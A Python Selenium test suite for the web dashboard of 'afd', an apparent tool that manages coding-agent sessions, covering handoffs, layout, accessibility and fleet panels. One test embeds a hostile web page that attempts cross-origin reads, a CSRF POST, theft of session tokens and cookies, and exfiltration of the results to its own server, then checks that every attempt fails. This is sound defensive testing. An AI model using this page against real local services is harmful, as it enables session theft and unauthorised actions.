"""The dashboard in a real headless browser: the system's chromium, driven by Selenium through its chromedriver.

A real daemon on a private tmux server, real git, the fake agents; the page
is used the way a person would use it, with the keyboard where it matters.
Screenshots stay with the test's tmp dir as artifacts.
"""

from __future__ import annotations

import re
import shutil
import tempfile
from datetime import datetime, timezone
from zoneinfo import ZoneInfo

import pytest
from web_harness import free_port, login_url, web_config

from daemon_harness import (  # noqa: F401 (limited_claude is a fixture)
    limited_claude,
    logged,
    run_daemon,  # noqa: F401 (a fixture)
    wait_state,
)
from harness import wait_for

pytestmark = [pytest.mark.tmux, pytest.mark.browser]

# What chromium needs to run headless as root in a container, and to stay off the network.
CHROMIUM_FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  "--disable-dev-shm-usage", "--window-size=1500,1000")
COUNTDOWN = re.compile(r"^resets in (\d+[dhms] ?)+$")


@pytest.fixture
def browser(tmp_path):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    binary = shutil.which("chromium") or shutil.which("chromium-browser")
    driver_path = shutil.which("chromedriver")
    if binary is None or driver_path is None:
        pytest.fail("chromium and chromedriver are not installed; scripts/test installs them (Debian: chromium chromium-driver)")
    options = webdriver.ChromeOptions()
    options.binary_location = binary
    profile = tempfile.mkdtemp(prefix="afd-chromium-", dir=tmp_path)
    for flag in (*CHROMIUM_FLAGS, f"--user-data-dir={profile}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(driver_path), options=options)
    driver.implicitly_wait(0)
    try:
        yield driver
    finally:
        try:
            driver.save_screenshot(str(tmp_path / "dashboard-last.png"))  # what the page showed at the end, pass or fail
        finally:
            driver.quit()


def find(driver, css: str, timeout: float = 20, message: str | None = None):
    from selenium.common.exceptions import NoSuchElementException

    def present():
        try:
            return driver.find_element("css selector", css)
        except NoSuchElementException:
            return None

    return wait_for(present, timeout=timeout, message=message or css)


def text_of(driver, css: str) -> str:
    return driver.find_element("css selector", css).text


def rows_of(driver, css: str, cell: str = "td") -> list[list[str]]:
    """The text of each match's cells (or of the match itself), read in one step: the page re-renders lists."""
    return driver.execute_script(
        "const [css, cell] = arguments; return [...document.querySelectorAll(css)].map("
        "  el => cell ? [...el.querySelectorAll(cell)].map(c => c.innerText) : [el.innerText]);", css, cell)


def contrast(driver) -> float:
    """The contrast ratio of the page's text on its background (WCAG's formula)."""
    colours = driver.execute_script(
        "const s = getComputedStyle(document.body); return [s.color, s.backgroundColor];")

    def luminance(css: str) -> float:
        r, g, b = (int(v) / 255 for v in re.findall(r"\d+", css)[:3])
        lin = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in (r, g, b)]
        return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]

    a, b = sorted((luminance(colours[0]), luminance(colours[1])), reverse=True)
    return (a + 0.05) / (b + 0.05)


def test_the_page_shows_a_limited_agent_hands_it_to_codex_and_shows_a_refused_resume(
        limited_claude, browser, tmp_path):
    from selenium.webdriver.common.keys import Keys

    port = free_port()
    wt, base, name, claude = limited_claude(web_config(port))
    browser.get(login_url())
    origin = f"http://127.0.0.1:{port}"
    assert browser.current_url == f"{origin}/"  # the token left the address bar

    # The limited fake agent, with its countdown ticking.
    row = find(browser, f'tr[data-session="{name}"]')
    wait_for(lambda: row.find_element("css selector", ".chip").text == "limited", message="the row says limited")
    clock = row.find_element("css selector", ".countdown")
    first = wait_for(lambda: clock.text, message="a countdown")
    assert COUNTDOWN.match(first), first
    wait_for(lambda: clock.text != first, timeout=5, message="the countdown ticking")
    assert row.find_element("css selector", ".agent").text == "claude"
    assert row.find_element("css selector", ".mission").text == "Fix the login test"
    # The limits panel has a row per account: claude's default account is the walled one.
    wait_for(lambda: rows_of(browser, '#agents tr[data-account="claude"] .chip', "") == [["limited"]],
             message="claude's account limited")
    browser.save_screenshot(str(tmp_path / "dashboard-limited.png"))
    # Every time the page shows is in the browser's zone: no ISO instant in what a person reads, and afd's
    # words (a refusal's "until …Z") read in that zone; text from outside shows as escapes.
    assert not re.search(r"\d{4}-\d\d-\d\dT\d\d:\d\d", browser.execute_script("return document.body.innerText;"))
    zone, words, shown = browser.execute_script(
        "return [Intl.DateTimeFormat().resolvedOptions().timeZone,"
        " inWords('codex is at its usage limit until 2030-01-02T05:08:00Z'), neutral('a\\u001b[2Jb\\u202ec')];")
    local = datetime(2030, 1, 2, 5, 8, tzinfo=timezone.utc).astimezone(ZoneInfo(zone)).strftime("%Y-%m-%d %H:%M")
    assert re.fullmatch(rf"codex is at its usage limit until {local} \(in \d+d\d+h\)", words), (zone, words)
    assert shown == "a\\x1b[2Jb\\u202ec"  # as afd.display.text.neutral shows it

    # The filters: limited shows it, working hides it.
    for which, shown in (("working", False), ("needs", False), ("limited", True), ("all", True)):
        button = browser.find_element("css selector", f'#filters button[data-filter="{which}"]')
        button.send_keys(Keys.ENTER)
        assert button.get_attribute("aria-pressed") == "true"
        assert row.is_displayed() is shown, which
    assert browser.find_element("css selector", '#filters button[data-filter="limited"] .n').text == "(1)"

    # Keyboard only: open the session, open the picker, choose codex, confirm.
    opener = row.find_element("css selector", "button")
    opener.send_keys(Keys.ENTER)
    find(browser, "#detail:not([hidden])")
    wait_for(lambda: browser.switch_to.active_element.get_attribute("id") == "detail-h", message="focus on the session")
    browser.find_element("id", "handoff-open").send_keys(Keys.ENTER)
    codex = find(browser, "#target-codex:not([disabled])", message="codex offered")
    assert browser.switch_to.active_element == codex or codex.is_selected()
    claude_choice = browser.find_element("id", "target-claude")
    assert claude_choice.get_attribute("disabled") is not None
    assert text_of(browser, "#why-claude") == "claude is the agent running there now"
    assert browser.find_element("css selector", 'label[for="target-codex"]').text == "codex"
    browser.execute_script("window.afdNotReloaded = true;")
    codex.send_keys(Keys.SPACE)
    browser.find_element("id", "handoff-go").send_keys(Keys.ENTER)

    # The swap, in the same pane, and its ledger row without a reload.
    [cells] = wait_for(lambda: rows_of(browser, "#ledger tbody tr"), timeout=90, message="the ledger row")
    assert cells[1:3] == ["claude", "codex"] and cells[5] == "asked by you"
    assert browser.execute_script("return window.afdNotReloaded === true;")
    wait_for(lambda: logged(claude, "codex", "start"), message="codex started in the pane")
    s = wait_state(name, "idle", "working")
    assert s["pane"] == claude.pane and s["agent"] == "codex" and s["handoffs"] == 1
    ranges = [r[0] for r in rows_of(browser, "#ranges li", "")]
    assert ranges[0].startswith("claude wrote ") and ranges[1].startswith("codex wrote ") and ranges[1].endswith("(working now)")
    wait_for(lambda: row.find_element("css selector", ".agent").text == "codex", message="the row says codex")

    # A resume afd refuses: its one-line reason shows.
    browser.find_element("id", "resume").click()
    notice = find(browser, "#notice:not([hidden])")
    wait_for(lambda: notice.text.startswith(f"Refused: cannot resume {name}: "), message="the refusal shown")

    # The rows in the DOM are the daemon's sessions.
    shown = {tr.get_attribute("data-session"): tr for tr in browser.find_elements("css selector", "#sessions tbody tr")}
    assert set(shown) == {s["name"] for s in _status()["sessions"]}
    tr = shown[name]
    assert [tr.find_element("css selector", f".{c}").text for c in ("agent", "handoffs")] == ["codex", "1"]
    assert tr.find_element("css selector", ".location").text == s["location"]
    browser.save_screenshot(str(tmp_path / "dashboard-after-handoff.png"))

    # Everything the page loaded came from this server; no script error, no blocked load.
    loaded = browser.execute_script("return performance.getEntriesByType('resource').map(e => e.name);")
    assert loaded and all(u.startswith(f"{origin}/") for u in loaded), loaded
    problems = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"
                and not (e["source"] == "network" and "status of 409" in e["message"])]  # the refused resume
    assert problems == [], problems

    # Every control has a name a screen reader can say.
    unnamed = browser.execute_script(
        "return [...document.querySelectorAll('button, input, select, textarea')].filter(el =>"
        "  !(el.labels && el.labels.length) && !el.getAttribute('aria-label') && !el.textContent.trim()"
        ").map(el => el.outerHTML);")
    assert unnamed == []

    # Readable in light and in dark.
    assert contrast(browser) >= 7
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]})
    assert contrast(browser) >= 7
    assert browser.execute_script("return matchMedia('(prefers-color-scheme: dark)').matches;")
    browser.save_screenshot(str(tmp_path / "dashboard-dark.png"))
    assert (tmp_path / "dashboard-limited.png").stat().st_size > 10_000


def _status() -> dict:
    from daemon_harness import status

    return status()


def test_a_paused_session_shows_paused_beside_its_state_until_unpaused(limited_claude, browser):
    from daemon_harness import afd

    port = free_port()
    wt, base, name, claude = limited_claude(web_config(port))
    browser.get(login_url())
    row = find(browser, f'tr[data-session="{name}"]')
    paused = row.find_element("css selector", ".chip.paused")
    assert not paused.is_displayed()
    assert afd("sessions", "pause", name).returncode == 0
    wait_for(lambda: paused.is_displayed(), message="the paused chip")
    assert paused.text == "paused" and paused.get_attribute("title") == "paused until you unpause it (afd sessions unpause)"
    assert row.find_element("css selector", ".chip").text == "limited"  # the state stands beside it
    assert afd("sessions", "unpause", name).returncode == 0
    wait_for(lambda: not paused.is_displayed(), message="the chip gone once unpaused")


# --- fitting the window ---------------------------------------------------------------------

LONG_ACCOUNT = "claude-work-for-the-platform-infrastructure-team-on-call"
LONG_MISSION = ("Migrate the billing service's nightly reconciliation job from the legacy cron host to the "
                "queue workers, keeping the idempotency keys and the audit trail, then remove the old host's "
                "configuration and document the rollback procedure for the on-call engineers")


@pytest.fixture
def five_sessions(run_daemon, tmux_server, xdg_dirs, worktree):
    """Five sessions with long missions: three claude walls (the default account, a configured account with a long
    name, an account of its own under HOME) and two codex (one on a temporary directory of its own, one working)."""
    from daemon_harness import session_for, write_config
    from harness import start_fake

    port = free_port()
    home = xdg_dirs["HOME"]
    write_config(xdg_dirs, web_config(port) + f'\n[accounts.{LONG_ACCOUNT}]\nagent = "claude"\n'
                 f'env = {{ CLAUDE_CONFIG_DIR = "~/.{LONG_ACCOUNT}" }}\n')
    run_daemon()
    scratch = tmux_server.scratch / "codex-scratch-home-of-a-throwaway-experiment"
    walled = {"agents": {"claude": {"limit_after_prompts": 1}}}
    started = [
        ("claude", {}, walled),
        ("claude", {"CLAUDE_CONFIG_DIR": str(home / f".{LONG_ACCOUNT}")}, walled),
        ("claude", {"CLAUDE_CONFIG_DIR": str(home / ".claude-personal-experiments-with-a-long-directory-name")}, walled),
        ("codex", {"CODEX_HOME": str(scratch)}, {}),
        ("codex", {}, {}),
    ]
    names = []
    for n, (agent, env, scenario) in enumerate(started):
        wt = worktree(f"feature-{n}-with-a-rather-long-branch-name-for-the-reconciliation-work")
        fake = start_fake(tmux_server, agent, cwd=wt, prompt=f"{LONG_MISSION} (part {n + 1})", scenario=scenario, env=env)
        names.append(session_for(fake.pane)["name"])
    for name in names[:3]:
        wait_state(name, "limited")
    return port, names, scratch


def overflow(driver) -> dict:
    """What does not fit the window: the page's own width, any box whose content is wider than it (a table's
    scroll box, a panel, the dialog), and any visible element reaching past the window's right edge."""
    return driver.execute_script("""
        const w = document.documentElement.clientWidth;
        const hidden = (el) => !el.getClientRects().length || getComputedStyle(el).visibility === 'hidden'
          || el.closest('thead') && getComputedStyle(el.closest('thead')).position === 'absolute'
          || el.closest('.sr-only') || el.closest('dialog:not([open])');
        const name = (el) => el.id ? '#' + el.id : el.tagName.toLowerCase() + (el.className ? '.' + el.className : '');
        const boxes = [...document.querySelectorAll('.scroll, .panel, table, dialog[open], dialog[open] h2, .bar')]
          .filter(el => !hidden(el) && el.scrollWidth > el.clientWidth + 1)
          .map(el => `${name(el)} ${el.scrollWidth}>${el.clientWidth}`);
        const past = [...document.querySelectorAll('body *')]
          .filter(el => !hidden(el) && el.getBoundingClientRect().right > w + 0.5)
          .map(el => `${name(el)} right ${Math.round(el.getBoundingClientRect().right)}`);
        return {window: w, page: document.documentElement.scrollWidth, boxes, past: past.slice(0, 8)};""")


def outside(driver, css: str) -> list[str]:
    """The matches not wholly inside the window (or not shown at all), by their text."""
    return driver.execute_script("""
        const w = document.documentElement.clientWidth, h = document.documentElement.clientHeight;
        return [...document.querySelectorAll(arguments[0])].filter(el => {
          const r = el.getBoundingClientRect();
          return !el.getClientRects().length || r.left < 0 || r.right > w + 0.5 || r.width < 1
            || el.scrollWidth > el.clientWidth + 1;
        }).map(el => el.innerText);""", css)


def test_the_page_fits_1400_and_400_pixels_with_five_sessions_long_missions_and_long_account_names(
        five_sessions, browser, tmp_path):
    from selenium.webdriver.common.keys import Keys

    port, names, scratch = five_sessions
    browser.get(login_url())
    for name in names:
        find(browser, f'tr[data-session="{name}"]')
    wait_for(lambda: len(rows_of(browser, '#agents tbody tr', "")) >= 5, message="the accounts listed")

    # Accounts as the user named them; one of its own as agent and a short directory, never its raw key.
    labels = wait_for(lambda: (lambda rows: rows if any(LONG_ACCOUNT in r[0] for r in rows) else None)(
        rows_of(browser, "#agents tbody tr")), message="the configured account listed")
    firsts = [r[0].split("\n")[0] for r in labels]
    assert f"{LONG_ACCOUNT} (claude)" in firsts
    assert "claude · ~/.claude-personal-experiments-with-a-long-directory-name" in firsts
    assert "codex · /tmp/…/codex-scratch-home-of-a-throwaway-experiment" in firsts
    page = browser.find_element("tag name", "main").text
    assert "@/" not in page and str(scratch) not in page and str(scratch.parent) not in page
    agents = {r[0]: r[2] for r in rows_of(browser, "#sessions tbody tr")}
    assert agents[names[1]] == f"claude\n{LONG_ACCOUNT}" and agents[names[0]] == "claude"

    for width in (1400, 400):
        browser.set_window_size(width, 1000)
        wait_for(lambda w=width: browser.execute_script("return window.innerWidth") == w, message=f"{width} px wide")
        seen = overflow(browser)
        assert seen["page"] <= seen["window"] and not seen["boxes"] and not seen["past"], (width, seen)
        # Every session's state is on screen (at 400 px, each session is a card with its state in it).
        assert outside(browser, "#sessions tbody tr:not([hidden]) td.state .chip:not([hidden])") == []
        if width == 1400:
            # All eight columns drawn as a table, the last two whole.
            assert outside(browser, "#sessions thead th") == []
            assert [th.text for th in browser.find_elements("css selector", "#sessions thead th")][-2:] == ["Witnesses", "Handoffs"]
        browser.save_screenshot(str(tmp_path / f"fit-{width}.png"))

    # The handoff dialog at 400 px: its title whole on screen, nothing wider than the window.
    row = browser.find_element("css selector", f'tr[data-session="{names[1]}"]')
    row.find_element("css selector", "button").send_keys(Keys.ENTER)
    find(browser, "#detail:not([hidden])")
    browser.find_element("id", "handoff-open").send_keys(Keys.ENTER)
    find(browser, "#targets input", message="the targets listed")
    assert outside(browser, "#handoff-h") == []
    assert browser.find_element("id", "handoff-h").text == f"Hand off {names[1]} to…"
    seen = overflow(browser)
    assert not seen["boxes"] and not seen["past"], seen
    browser.save_screenshot(str(tmp_path / "fit-400-dialog.png"))


def test_the_usage_panel_shows_each_windows_figure_and_where_it_comes_from(run_daemon, browser, xdg_dirs, tmp_path):  # noqa: F811
    import json
    import os
    import subprocess
    import sys
    from datetime import datetime, timedelta, timezone
    from pathlib import Path

    from daemon_harness import write_config

    port = free_port()
    write_config(xdg_dirs, web_config(port))
    run_daemon()
    reset = int((datetime.now(timezone.utc) + timedelta(hours=2)).timestamp())
    data = json.dumps({"session_id": "s", "rate_limits": {"five_hour": {"used_percentage": 91.5, "resets_at": reset},
                                                            "seven_day": {"used_percentage": 12, "resets_at": reset + 86400}}})
    subprocess.run([str(Path(sys.executable).with_name("afd")), "statusline"], input=data.encode(), check=True,
                   capture_output=True, env=dict(os.environ), timeout=30)
    browser.get(login_url())
    wait_for(lambda: rows_of(browser, '#usage tr[data-account="claude"]'), message="the usage rows")
    rows = wait_for(lambda: (lambda r: r if len(r) == 2 else None)(rows_of(browser, '#usage tr[data-account="claude"]')),
                    message="both windows")
    assert [r[:3] for r in rows] == [["claude", "5-hour", "91.5 %"], ["claude", "7-day", "12 %"]]
    assert rows[0][4].startswith("exact, ") and rows[0][4].endswith(" old")
    assert browser.find_element("css selector", '#usage tr[data-window="five_hour"] td:nth-child(3)').get_attribute(
        "class") == "u-warn"
    assert not browser.find_element("id", "usage-empty").is_displayed()
    browser.save_screenshot(str(tmp_path / "dashboard-usage.png"))


# --- a page on another loopback port -------------------------------------------------------------

HOSTILE_PAGE = """<!doctype html><html><meta charset="utf-8"><title>another server</title><body>
<img src="http://127.0.0.1:{port}/api/status"><script>
const afd = "http://127.0.0.1:{port}";
const said = {{}};
async function attempt(name, run) {{
  try {{ said[name] = await run(); }} catch (err) {{ said[name] = "error: " + err; }}
}}
(async () => {{
  await attempt("read", async () => (await fetch(afd + "/api/status", {{credentials: "include"}})).status);
  await attempt("resume", async () => (await fetch(afd + "/api/sessions/{name}/resume",
      {{method: "POST", mode: "no-cors", credentials: "include", body: "{{}}"}})).type);
  await attempt("storage", async () => {{
    const w = window.open(afd + "/");
    await new Promise((r) => setTimeout(r, 1500));
    return w.sessionStorage.getItem("afd-session");
  }});
  await attempt("cookies", async () => document.cookie);
  await fetch("/report", {{method: "POST", body: JSON.stringify(said)}});
}})();
</script></body></html>"""


class Hostile:
    """A server on another loopback port, as an agent's dev server would be: it keeps every request it gets."""

    def __init__(self, page: str):
        import http.server
        import threading

        self.requests: list[dict] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                self._keep(b"")
                body = page.encode() if self.path == "/" else b""
                self.send_response(200 if self.path == "/" else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):  # noqa: N802
                self._keep(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.send_response(204)
                self.end_headers()

            def _keep(self, body: bytes):
                owner.requests.append({"path": self.path, "headers": dict(self.headers.items()), "body": body.decode(errors="replace")})

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_page_on_another_loopback_port_gets_nothing_that_works_against_afd(limited_claude, browser):
    import json

    from web_harness import Client

    port = free_port()
    wt, base, name, claude = limited_claude(web_config(port))
    browser.get(login_url())
    find(browser, f'tr[data-session="{name}"]')  # logged in and watching
    session = browser.execute_script("return sessionStorage.getItem('afd-session');")
    assert session and Client(port, session=session).get("/api/status").status == 200
    dashboard = browser.current_window_handle

    hostile = Hostile(HOSTILE_PAGE.format(port=port, name=name))
    try:
        browser.switch_to.new_window("tab")
        browser.get(f"http://127.0.0.1:{hostile.port}/")
        [report] = wait_for(lambda: [r for r in hostile.requests if r["path"] == "/report"], timeout=30,
                            message="the other page's report")
        said = json.loads(report["body"])
        received = list(hostile.requests)
    finally:
        hostile.stop()

    # What the page could do from the browser: no answer, no storage, no cookie.
    assert said["read"].startswith("error:"), said  # no CORS header: the browser withholds the answer
    assert said["storage"] is None or said["storage"].startswith("error:"), said
    assert said["cookies"] == "", said
    # What its server received: nothing of the login, and nothing that works when replayed.
    assert received and all(session not in json.dumps(r) for r in received)
    for r in received:
        replayed = {k: v for k, v in r["headers"].items() if k.lower() not in ("host", "content-length")}
        stranger = Client(port)
        assert stranger.get("/api/status", headers=replayed).status in (401, 403), r
        assert stranger.post(f"/api/sessions/{name}/resume", headers={**replayed, "x-afd": "1"}).status in (401, 403), r
    # Nothing was done to the session, and the dashboard's own tab still works.
    s = wait_state(name, "limited")
    assert s["agent"] == "claude" and s["handoffs"] == 0
    browser.switch_to.window(dashboard)
    assert browser.execute_script("return sessionStorage.getItem('afd-session');") == session
    assert Client(port, session=session).get("/api/status").status == 200


def test_the_page_afd_web_open_writes_logs_the_browser_in(run_daemon, xdg_dirs, browser, tmp_path):
    import sys

    from web_harness import afd

    from daemon_harness import write_config

    port = free_port()
    write_config(xdg_dirs, web_config(port))
    run_daemon()
    given = tmp_path / "given"
    opener = tmp_path / "opener"
    opener.write_text(f"#!{sys.executable}\nimport sys\nopen({str(given)!r}, 'w').write(sys.argv[1])\n")
    opener.chmod(0o700)
    done = afd("web", "--open", env={"BROWSER": str(opener)})
    assert done.returncode == 0, done.stderr
    page = wait_for(lambda: given.exists() and given.read_text(), message="the address handed to the browser")
    assert page.startswith("file:///") and "token" not in page
    browser.get(page)
    wait_for(lambda: browser.current_url == f"http://127.0.0.1:{port}/", message="sent on to the dashboard, the token gone")
    wait_for(lambda: text_of(browser, "#live") == "live", message="logged in and following events")
    assert browser.execute_script("return sessionStorage.getItem('afd-session');")


def test_the_fleet_panel_shows_each_host_its_sessions_and_a_stale_one(run_daemon, browser, xdg_dirs, tmp_path):  # noqa: F811
    import dataclasses
    import json
    from datetime import timedelta

    from afd.judge.peer_answer import PeerAnswer, PeerSession
    from afd.record.fleet_book import FleetBook
    from afd.record.store import Store, default_path
    from afd.record.types import Contact, LimitFact, LimitState
    from daemon_harness import write_config

    now = datetime.now(timezone.utc)
    reset = now + timedelta(hours=2)
    wall = LimitFact("claude", LimitState.LIMITED, reset, now, "api:1.0", banner="limit reached", account="claude-work")
    said = PeerAnswer(version="0.2.0", hostname="ws", time=now, running=True, facts=(wall,), sessions=(
        PeerSession("api:1.0", "claude", "claude-work", "limited", reset, "api:1.0", "afd/api", None),))
    with Store(default_path()) as store:
        book = FleetBook(store)
        host = book.add("ws", "me@127.0.0.1", free_port(), now - timedelta(hours=1))
        book.record(dataclasses.replace(host, contact=Contact.ANSWERED, asked_at=now, answered_at=now, version="0.2.0",
                            answer=json.dumps(said.to_json())), [wall])
    port = free_port()
    write_config(xdg_dirs, web_config(port) + '\n[fleet]\npull_interval = "1h"\n\n[accounts.claude-work]\n'
                 'agent = "claude"\nenv = { CLAUDE_CONFIG_DIR = "~/.claude-work" }\nshare = true\n')
    run_daemon()
    browser.get(login_url())
    # Its first pull finds nothing listening: unreachable, stale, and what it last said kept.
    row = wait_for(lambda: (lambda r: r if r and "stale since" in r[0][1] else None)(rows_of(browser, '#fleet tr[data-host="ws"]')),
                   timeout=30, message="the fleet's row for ws, stale")[0]
    assert row[0] == "ws · afd 0.2.0" and row[1].startswith("unreachable, stale since ") and row[2] == "api:1.0 · limited"
    assert browser.find_element("id", "fleet-panel").is_displayed()
    seen = wait_for(lambda: browser.find_element("css selector", '#agents tr[data-account="claude-work"] .seen').text,
                    message="the work account's row")
    assert seen.startswith("seen on ws"), seen
    browser.save_screenshot(str(tmp_path / "dashboard-fleet.png"))
